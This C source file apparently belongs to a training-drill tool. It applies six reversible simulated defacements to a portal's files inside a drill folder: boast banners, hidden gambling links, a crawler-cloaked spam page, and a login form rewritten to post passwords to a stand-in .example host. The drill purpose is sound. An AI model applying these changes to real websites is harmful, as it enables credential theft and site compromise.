/* The six ways in which a drill defaces: see cli/drill/deface_acts.h. The texts are made up, the
 * hosts end in .example: nothing here leads anywhere. */
#include "cli/drill/deface_acts.h"

#include "base/banned.h"
#include "base/cleanup.h"
#include "base/err.h"
#include "base/text.h"
#include "cli/drill/portal.h"
#include "sys/fd.h"

#include <errno.h>
#include <fcntl.h>

#define BOAST_TITLE "Hacked by Drill Crew"
#define BOAST_BLOCK                                                                                \
    "<div style=\"background:#000;color:#0f0;text-align:center\"><h1>HACKED BY DRILL CREW</h1>"    \
    "<p>Your security is zero. We are everywhere. Greetz to all members.</p></div>"
#define GAMBLING_LINKS                                                                             \
    "<a href=\"https://nhacai-dientap.example/\">Nhà cái uy tín số 1, tặng 188k</a> "              \
    "<a href=\"https://nohu-dientap.example/\">Nổ hũ đổi thưởng, nạp rút nhanh</a> "               \
    "<a href=\"https://taixiu-dientap.example/\">Link vào tài xỉu mới nhất</a>"

/* before with `with` in place of the text from `from` up to and with `to`; before itself where they
 * are not. */
static void replace(struct str before, struct str from, struct str to, struct str with,
                    struct buf *out)
{
    size_t start = str_find(before, from);
    struct str rest = str_slice(before, start, before.len);
    size_t end = str_find(rest, to);

    (void)buf_put_str(out, str_slice(before, 0, start));
    if (end < rest.len) {
        (void)buf_put_str(out, with);
        (void)buf_put_str(out, str_slice(rest, end + to.len, rest.len));
    } else {
        (void)buf_put_str(out, rest);
    }
}

static void make_whole(struct str before, struct buf *out)
{
    (void)before;
    (void)buf_put_text(out, "<html><head><title>" BOAST_TITLE "</title></head>"
                            "<body bgcolor=\"black\">" BOAST_BLOCK "</body></html>\n");
}

static void make_title(struct str before, struct buf *out)
{
    replace(before, STR("<title>"), STR("</title>"), STR("<title>" BOAST_TITLE "</title>"), out);
}

static void make_block(struct str before, struct buf *out)
{
    replace(before, STR("<main>"), STR("\n"), STR("<main>\n" BOAST_BLOCK "\n"), out);
}

static void make_hidden(struct str before, struct buf *out)
{
    replace(
        before, STR("<footer>"), STR(" "),
        STR("<div style=\"position:absolute;left:-9999px\">" GAMBLING_LINKS "</div><footer>Lượt "),
        out);
}

static void make_cloak(struct str before, struct buf *out)
{
    (void)before;
    (void)buf_put_text(
        out,
        "<!DOCTYPE html><html lang=\"vi\"><head><meta charset=\"utf-8\"><title>Nhà cái uy tín "
        "2026, nổ hũ đổi thưởng</title></head><body><h1>Nhà cái uy tín, tặng 188k khi đăng ký</h1>"
        "<p>Nạp rút trong 1 phút, tài xỉu, nổ hũ, bắn cá, cá cược bóng đá.</p>" GAMBLING_LINKS
        "</body></html>\n");
}

static void make_form(struct str before, struct buf *out)
{
    replace(before, STR("action=\"/dang-nhap\""), STR("\""),
            STR("action=\"https://thu-cong-vu.example/luu\""), out);
}

const struct deface_act deface_acts[] = {
    {"whole", N_("the whole front page gives way to a boast"), "", PORTAL_HOME, make_whole},
    {"title", N_("only the title is changed"), "", PORTAL_HOME, make_title},
    {"block", N_("a boast is put above the news"), "", PORTAL_HOME, make_block},
    {"hidden-links", N_("links to gambling are hidden off the screen"), "", PORTAL_HOME,
     make_hidden},
    {"cloak", N_("search engines are shown a gambling page"), "", PORTAL_HOME ".crawler",
     make_cloak},
    {"login-form", N_("the log-in sends passwords to another host"), PORTAL_LOGIN, PORTAL_LOGIN,
     make_form},
    {},
};

const struct deface_act *deface_act_find(const char *name)
{
    for (const struct deface_act *act = deface_acts; act->name != NULL; act++) {
        if (strcmp(act->name, name) == 0) {
            return act;
        }
    }
    return NULL;
}

/* -ERR_NOENT when it is not there. */
static int act_read(const struct deface_act *act, const struct drill_folder *folder,
                    struct buf *bytes)
{
    CLEANUP(closep) int fd = fd_open_beneath(folder->fd, act->file, O_RDONLY, 0);

    return fd < 0 ? fd : fd_read_all(fd, bytes);
}

static int act_write(const struct deface_act *act, const struct drill_folder *folder,
                     struct str bytes)
{
    CLEANUP(closep)
    int fd = fd_open_beneath(folder->fd, act->file, O_WRONLY | O_CREAT | O_TRUNC, 0644);

    return fd < 0 ? fd : fd_write_full(fd, bytes.ptr, bytes.len);
}

int deface_act_do(const struct deface_act *act, const struct drill_folder *folder,
                  struct buf *ret_before)
{
    struct buf out;
    int r = drill_folder_check(folder);

    buf_reset(ret_before);
    r = r < 0 ? r : act_read(act, folder, ret_before);
    if (r < 0 && r != -ERR_NOENT) {
        return r;
    }
    buf_init(&out, PORTAL_PAGE_MAX);
    act->make(buf_str(ret_before), &out);
    r = buf_error(&out);
    if (r == 0 && str_is(buf_str(&out), buf_str(ret_before))) {
        r = -ERR_CORRUPT; /* the page is not the one that the act was written for */
    }
    r = r < 0 ? r : act_write(act, folder, buf_str(&out));
    buf_done(&out);
    return r;
}

int deface_act_undo(const struct deface_act *act, const struct drill_folder *folder,
                    struct str before)
{
    int r = drill_folder_check(folder);

    if (r < 0) {
        return r;
    }
    if (before.len != 0) {
        return act_write(act, folder, before);
    }
    return unlinkat(folder->fd, act->file, 0) == 0 || errno == ENOENT ? 0 : -errno;
}

bool deface_act_is_undone(const struct deface_act *act, const struct drill_folder *folder,
                          struct str before)
{
    struct buf bytes;
    bool is_same;
    int r;

    buf_init(&bytes, PORTAL_PAGE_MAX);
    r = act_read(act, folder, &bytes);
    is_same = before.len == 0 ? r == -ERR_NOENT : r == 0 && str_is(buf_str(&bytes), before);
    buf_done(&bytes);
    return is_same;
}
